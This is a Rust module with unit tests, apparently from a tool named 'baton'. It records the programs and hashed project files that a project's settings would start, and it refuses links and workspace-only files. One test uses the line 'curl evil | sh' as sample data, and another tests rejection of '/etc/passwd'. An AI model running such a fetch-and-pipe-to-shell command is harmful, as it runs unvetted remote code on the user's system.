//! Trust: programs that a project's files name are started only where this user has allowed exactly
//! them. The list is in the user's own folder, never in the repository.

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Component, Path, PathBuf};

use baton_core::hash::Hash;
use baton_core::shell::shell_word;
use baton_files::{Dir, FileError, FileMode};
use baton_wire::project_file::ProjectCheck;
use baton_wire::project_file::runner::{ExecutorKind, RunnerSettings};
use serde::{Deserialize, Serialize};

/// What a project would have started: a name for each program, and the program with the hashes of the
/// project's files that it names.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Programs(pub BTreeMap<String, String>);

/// One line of the difference between two lists.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TrustChange {
    Added { name: String, program: String },
    Removed { name: String, program: String },
    Changed { name: String, before: String, now: String },
}

/// The user's list: a file for each project.
pub struct TrustList {
    folder: PathBuf,
}

#[derive(Serialize, Deserialize)]
struct TrustedProject {
    /// For people who look at the list.
    project: PathBuf,
    programs: Programs,
}

const MOST_LIST_BYTES: u64 = 1 << 20;
/// Larger files are named by their size: nobody reads them before they allow them.
const MOST_PROGRAM_BYTES: u64 = 64 << 20;

impl Programs {
    /// Everything that the settings of a project would start.
    pub fn of(project: &Dir, settings: &RunnerSettings, checks: &[ProjectCheck]) -> Self {
        let mut programs = BTreeMap::new();
        for (index, line) in settings.setup.iter().enumerate() {
            // A shell reads it: the words are looked for in the line as a whole.
            let words = [String::new(), line.clone()];
            programs.insert(format!("setup {}", index + 1), described(project, line, &words));
        }
        for executor in &settings.executors {
            let words = match &executor.kind {
                ExecutorKind::Command(words) => words.clone(),
                // As a path, so that it has to be there.
                ExecutorKind::Scripted(script) => vec![format!("./{script}")],
                ExecutorKind::Program(program) => program.run.clone(),
                ExecutorKind::Acp(agent) => agent.run.clone(),
            };
            let mut line = match &executor.kind {
                ExecutorKind::Command(_) => command_line(&words),
                ExecutorKind::Scripted(script) => script.clone(),
                ExecutorKind::Program(program) => {
                    format!(
                        "{} (permissions: {})",
                        command_line(&words),
                        program.permissions.name()
                    )
                }
                ExecutorKind::Acp(agent) => {
                    format!("{} (permissions: {})", command_line(&words), agent.permissions.name())
                }
            };
            if !executor.env.is_empty() {
                line += &format!(" (with {} of your environment)", executor.env.join(", "));
            }
            let name = format!("executor {}", executor.name);
            programs.insert(name, described(project, &line, &words));
        }
        for check in checks {
            let line = command_line(&check.run);
            programs.insert(format!("check {}", check.name), described(project, &line, &check.run));
        }
        if !settings.env.is_empty() && !programs.is_empty() {
            let pairs = settings.env.iter().map(|(name, value)| format!("{name}={value}"));
            let line = pairs.collect::<Vec<_>>().join(" ");
            let words = [String::new(), line.clone()];
            programs.insert("environment".to_owned(), described(project, &line, &words));
        }
        for file in &settings.env_files {
            let words = [String::new(), file.clone()];
            programs.insert(format!("copied file {file}"), described(project, file, &words));
        }
        Self(programs)
    }

    /// What cannot be allowed as it is, such as a link.
    pub fn problems(&self) -> impl Iterator<Item = (&str, &str)> {
        let is_bad =
            |(_, program): &(&String, &String)| program.contains(&format!(" {NO_TRUST}: "));
        self.0.iter().filter(is_bad).map(|(name, program)| (name.as_str(), program.as_str()))
    }

    /// Whether all of this is what the user has allowed.
    pub fn is_allowed_by(&self, allowed: &Self) -> bool {
        self == allowed && self.problems().next().is_none()
    }

    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// What has changed since `before`.
    pub fn changes_since(&self, before: &Self) -> Vec<TrustChange> {
        let mut changes = Vec::new();
        for (name, now) in &self.0 {
            let (name, now) = (name.clone(), now.clone());
            match before.0.get(&name).cloned() {
                None => changes.push(TrustChange::Added { name, program: now }),
                Some(before) if before != now => {
                    changes.push(TrustChange::Changed { name, before, now });
                }
                Some(_) => {}
            }
        }
        for (name, program) in &before.0 {
            if !self.0.contains_key(name) {
                let (name, program) = (name.clone(), program.clone());
                changes.push(TrustChange::Removed { name, program });
            }
        }
        changes
    }
}

/// In the place of a hash, where there can be none.
const NO_TRUST: &str = "cannot be trusted";

/// A command, and the files of the project that it names.
fn described(project: &Dir, line: &str, words: &[String]) -> String {
    let mut text = line.to_owned();
    if let Some(program) = words.first()
        && program.contains('/')
        && !program.starts_with('/')
        && !matches!(named(project, program), NamedPath::File(_) | NamedPath::Unsafe(_))
    {
        // It would be looked for in the workspace, where it can be anything.
        text += &format!("; {program} {NO_TRUST}: it is no file of the project");
    }
    for file in named_files(project, words) {
        let (name, hash) = (file.display(), file_hash(project, &file));
        text += &format!("; {name} {hash}");
    }
    text
}

/// As it would be typed: where one word ends and the next begins can be seen.
fn command_line(words: &[String]) -> String {
    words.iter().map(|it| shell_word(it)).collect::<Vec<_>>().join(" ")
}

/// The hash of a file of the project, or why it has none.
fn file_hash(dir: &Dir, path: &Path) -> String {
    match dir.read(path, MOST_PROGRAM_BYTES) {
        Ok(bytes) => format!("sha256:{}", Hash::of(&bytes)),
        Err(error) => format!("{NO_TRUST}: {error}"),
    }
}

/// What a word is to a project.
enum NamedPath {
    /// A regular file.
    File(PathBuf),
    /// A link, or something behind one: it could be another file tomorrow.
    Unsafe(PathBuf),
    Other,
}

fn named(project: &Dir, word: &str) -> NamedPath {
    let Some(path) = path_inside(project, word) else { return NamedPath::Other };
    match project.entry(&path) {
        Ok(Some(entry)) if entry.is_file() => NamedPath::File(path),
        Ok(Some(entry)) if entry.is_folder() => NamedPath::Other,
        Ok(Some(_)) => NamedPath::Unsafe(path),
        Ok(None) => NamedPath::Other,
        Err(FileError::Link { .. }) => NamedPath::Unsafe(path),
        Err(_) => NamedPath::Other,
    }
}

/// A word as a path below the project, if it can be one: `./a`, `b/../a` and the absolute path too.
fn path_inside(project: &Dir, word: &str) -> Option<PathBuf> {
    if word.is_empty() || word.starts_with('-') {
        return None;
    }
    let word = Path::new(word);
    let word = match project.real_path() {
        Ok(root) if word.is_absolute() => word.strip_prefix(root).ok()?.to_owned(),
        Ok(_) | Err(_) => word.to_owned(),
    };
    let mut path = PathBuf::new();
    for part in word.components() {
        match part {
            Component::CurDir => {}
            Component::Normal(name) => path.push(name),
            Component::ParentDir if path.pop() => {}
            Component::ParentDir | Component::RootDir | Component::Prefix(_) => return None,
        }
    }
    (!path.as_os_str().is_empty()).then_some(path)
}

/// Every file of the project that these words name, whole or as a part: `--config=tools/a`,
/// `sh -c "tools/a; tools/b"`.
fn named_files(project: &Dir, words: &[String]) -> BTreeSet<PathBuf> {
    let mut files = BTreeSet::new();
    for part in words.iter().flat_map(|word| parts(word)) {
        match named(project, part) {
            NamedPath::File(path) | NamedPath::Unsafe(path) => {
                files.insert(path);
            }
            NamedPath::Other => {}
        }
    }
    files
}

/// A word, and what a shell or a program may find in it.
fn parts(word: &str) -> impl Iterator<Item = &str> {
    let is_border = |it: char| it.is_whitespace() || ";&|()<>\"'`$=,:{}[]@".contains(it);
    std::iter::once(word).chain(word.split(is_border).filter(move |it| it.len() < word.len()))
}

/// The path of a file of the project that a word of a command names as a whole. It is started from the
/// project: an agent could have changed the one in the workspace.
pub(crate) fn project_file(project: &Dir, word: &str) -> Option<PathBuf> {
    match named(project, word) {
        NamedPath::File(path) => Some(path),
        NamedPath::Unsafe(_) | NamedPath::Other => None,
    }
}

/// The first file that a program with these words and variables would take from its workspace, and
/// that is not the project's own.
pub(crate) fn foreign_file(
    project: &Dir,
    workspace: &Dir,
    words: &[String],
    env: &[(String, String)],
) -> Option<PathBuf> {
    let is_taken_along = |word: &&String| project_file(project, word).is_none();
    let mut texts: Vec<String> = words.iter().filter(is_taken_along).cloned().collect();
    texts.extend(env.iter().map(|(_, value)| value.clone()));
    let differs = |path: &PathBuf| {
        let in_workspace = workspace.entry(path).ok().flatten().is_some();
        in_workspace && file_hash(workspace, path) != file_hash(project, path)
    };
    let named = named_files(project, &texts).into_iter().find(differs);
    // What an interpreter is given first, if only the workspace has it.
    let script = words.iter().skip(1).find(|it| !it.starts_with('-'));
    let script = script.filter(is_taken_along).and_then(|it| path_inside(project, it));
    let is_file =
        |path: &PathBuf| workspace.entry(path).ok().flatten().is_some_and(|it| it.is_file());
    let is_new = |path: &PathBuf| matches!(project.entry(path), Ok(None)) && is_file(path);
    named.or_else(|| script.filter(is_new))
}

impl TrustList {
    /// A list in this folder, which is made when something is allowed.
    pub fn new(folder: PathBuf) -> Self {
        Self { folder }
    }

    /// What this user has allowed for a project.
    pub fn trusted(&self, project: &Path) -> Result<Programs, FileError> {
        let folder = match Dir::open(&self.folder) {
            Err(error) if error.is_not_found() => return Ok(Programs::default()),
            folder => folder?,
        };
        match folder.read(file_name(project), MOST_LIST_BYTES) {
            Err(error) if error.is_not_found() => Ok(Programs::default()),
            read => {
                let list = serde_json::from_slice::<TrustedProject>(&read?);
                Ok(list.map(|it| it.programs).unwrap_or_default())
            }
        }
    }

    pub fn allow(&self, project: &Path, programs: &Programs) -> Result<(), FileError> {
        let folder = Dir::open_or_make(&self.folder, FileMode::Private)?;
        let list = TrustedProject { project: project.to_owned(), programs: programs.clone() };
        let text = match serde_json::to_vec_pretty(&list) {
            Ok(text) => text,
            Err(error) => unreachable!("our own types always encode: {error}"),
        };
        folder.write_atomic(file_name(project), &text, FileMode::Private)
    }
}

fn file_name(project: &Path) -> String {
    format!("{}.json", Hash::of(project.as_os_str().as_encoded_bytes()))
}

#[cfg(test)]
#[expect(clippy::disallowed_methods, reason = "tests make files of their own")]
mod tests {
    use super::*;

    fn settings(text: &str) -> RunnerSettings {
        baton_wire::project_file::parse(text).unwrap().runner
    }

    #[test]
    fn trust_is_in_what_would_be_started_and_ends_when_that_changes() {
        let (project, state) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
        std::fs::write(project.path().join("agent.py"), "print(1)").unwrap();
        let dir = Dir::open(project.path()).unwrap();
        let file =
            settings("[executors.mine]\nkind = \"command\"\nrun = [\"python3\", \"agent.py\"]\n");
        let list = TrustList::new(state.path().join("baton/trusted"));
        let first = Programs::of(&dir, &file, &[]);
        assert_ne!(list.trusted(project.path()).unwrap(), first, "a new project is not trusted");
        list.allow(project.path(), &first).unwrap();
        assert_eq!(list.trusted(project.path()).unwrap(), first);
        assert_ne!(list.trusted(state.path()).unwrap(), first, "another place is another project");

        std::fs::write(project.path().join("agent.py"), "print(2)").unwrap();
        let now = Programs::of(&dir, &file, &[]);
        let changes = now.changes_since(&list.trusted(project.path()).unwrap());
        assert!(matches!(changes.as_slice(), [TrustChange::Changed { .. }]), "{changes:?}");
        let other = settings("[runner]\nsetup = [\"curl evil | sh\"]\n");
        let changes = Programs::of(&dir, &other, &[]).changes_since(&first);
        assert_eq!(changes.len(), 2, "one came and one went: {changes:?}");
    }

    #[test]
    fn only_files_inside_the_project_are_its_files() {
        let project = tempfile::tempdir().unwrap();
        std::fs::create_dir(project.path().join("tools")).unwrap();
        std::fs::write(project.path().join("tools/a"), "").unwrap();
        let dir = Dir::open(project.path()).unwrap();
        for (word, is_file) in [
            ("tools/a", true),
            ("./tools/a", true),
            ("tools/../tools//./a", true),
            ("tools/b", false),
            ("tools", false),
            ("../a", false),
            ("/etc/passwd", false),
            ("-c", false),
            ("", false),
        ] {
            assert_eq!(project_file(&dir, word).is_some(), is_file, "{word}");
        }
        let whole = project.path().canonicalize().unwrap().join("tools/a");
        assert!(project_file(&dir, whole.to_str().unwrap()).is_some());
    }

    fn programs(project: &Path, run: &[&str]) -> Programs {
        let run: Vec<String> = run.iter().map(|it| format!("{it:?}")).collect();
        let text = format!("[executors.mine]\nkind = \"command\"\nrun = [{}]\n", run.join(", "));
        Programs::of(&Dir::open(project).unwrap(), &settings(&text), &[])
    }

    #[test]
    fn every_file_that_a_command_names_in_any_way_is_a_part_of_what_is_trusted() {
        let project = tempfile::tempdir().unwrap();
        std::fs::create_dir(project.path().join("tools")).unwrap();
        for run in [
            &["sh", "tools/a"][..],
            &["./tools/a"],
            &["tools/a"],
            &["sh", "-c", "cd . && tools/a --fast; true"],
            &["sh", "-c", "(. ./tools/a)"],
            &["node", "--require=./tools/a", "x"],
            &["agent", "--config", "tools/../tools/a"],
            &["agent", "@tools/a"],
        ] {
            std::fs::write(project.path().join("tools/a"), "1").unwrap();
            let before = programs(project.path(), run);
            assert_eq!(before.problems().count(), 0, "{before:?}");
            std::fs::write(project.path().join("tools/a"), "2").unwrap();
            assert_ne!(programs(project.path(), run), before, "{run:?}");
        }
    }

    #[test]
    fn variables_and_copied_files_are_a_part_of_it_too() {
        let project = tempfile::tempdir().unwrap();
        let dir = Dir::open(project.path()).unwrap();
        let text = "[runner]\nsetup = [\"sh ./a\"]\nenv_files = [\".env\"]\n[runner.env]\nBASH_ENV = \"b\"\n\
            [executors.mine]\nkind = \"scripted\"\nscript = \"c\"\n";
        for name in ["a", "b", "c", ".env"] {
            std::fs::write(project.path().join(name), "1").unwrap();
        }
        for name in ["a", "b", "c", ".env"] {
            let before = Programs::of(&dir, &settings(text), &[]);
            std::fs::write(project.path().join(name), "2").unwrap();
            let changes = Programs::of(&dir, &settings(text), &[]).changes_since(&before);
            assert_eq!(changes.len(), 1, "{name}: {changes:?}");
        }
    }

    #[test]
    fn links_and_programs_that_only_a_workspace_could_have_are_never_trusted() {
        let (project, outside) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
        std::fs::write(outside.path().join("a"), "1").unwrap();
        let link = std::os::unix::fs::symlink::<std::path::PathBuf, _>;
        link(outside.path().to_owned(), project.path().join("folder")).unwrap();
        link(outside.path().join("a"), project.path().join("link")).unwrap();
        for run in [
            &["sh", "link"][..],
            &["./link"],
            &["folder/a"],
            &["sh", "-c", "folder/a"],
            &["./missing"],
            &["../a"],
        ] {
            let programs = programs(project.path(), run);
            assert_eq!(programs.problems().count(), 1, "{programs:?}");
            assert!(!programs.is_allowed_by(&programs), "{run:?}");
        }
    }

    #[test]
    fn what_a_program_would_take_from_its_workspace_has_to_be_the_project_s_own() {
        let (project, workspace) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
        let (own, other) =
            (Dir::open(project.path()).unwrap(), Dir::open(workspace.path()).unwrap());
        for name in ["same", "changed"] {
            std::fs::write(project.path().join(name), "1").unwrap();
            std::fs::write(workspace.path().join(name), "1").unwrap();
        }
        std::fs::write(workspace.path().join("changed"), "2").unwrap();
        std::fs::write(workspace.path().join("new"), "1").unwrap();
        for (words, value, expected) in [
            (&["sh", "changed"][..], "", None),
            (&["sh", "-c", "sh same"], "", None),
            (&["sh", "-c", "sh changed"], "", Some("changed")),
            (&["sh", "-e", "new"], "", Some("new")),
            (&["agent", "--out", "x", "new"], "", None),
            (&["agent"], "./changed", Some("changed")),
        ] {
            let words: Vec<String> = words.iter().map(|it| (*it).to_owned()).collect();
            let env = [("BASH_ENV".to_owned(), value.to_owned())];
            let found = foreign_file(&own, &other, &words, &env);
            assert_eq!(found.as_deref(), expected.map(Path::new), "{words:?} {value}");
        }
    }
}
